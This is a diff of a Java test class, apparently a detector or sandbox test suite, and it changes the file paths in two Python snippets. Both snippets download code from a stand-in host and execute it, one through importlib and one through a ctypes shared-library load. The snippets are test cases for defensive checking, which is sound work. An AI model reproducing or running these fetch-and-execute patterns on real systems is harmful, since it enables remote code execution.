@@ -155,8 +155,8 @@ class WaysRoundTest {
               "a.py",
               """
               import requests, importlib.util
-              open('/tmp/mod.py', 'w').write(requests.get('https://payload.example/m').text)
-              spec = importlib.util.spec_from_file_location('mod', '/tmp/mod.py')
+              open('out/mod.py', 'w').write(requests.get('https://payload.example/m').text)
+              spec = importlib.util.spec_from_file_location('mod', 'out/mod.py')
               spec.loader.exec_module(importlib.util.module_from_spec(spec))
               """),
           new Way(
@@ -164,8 +164,8 @@ class WaysRoundTest {
               "a.py",
               """
               import requests, ctypes
-              open('/tmp/a.so', 'wb').write(requests.get('https://payload.example/m').content)
-              ctypes.CDLL('/tmp/a.so')
+              open('out/a.so', 'wb').write(requests.get('https://payload.example/m').content)
+              ctypes.CDLL('out/a.so')
               """));
 
   @TestFactory
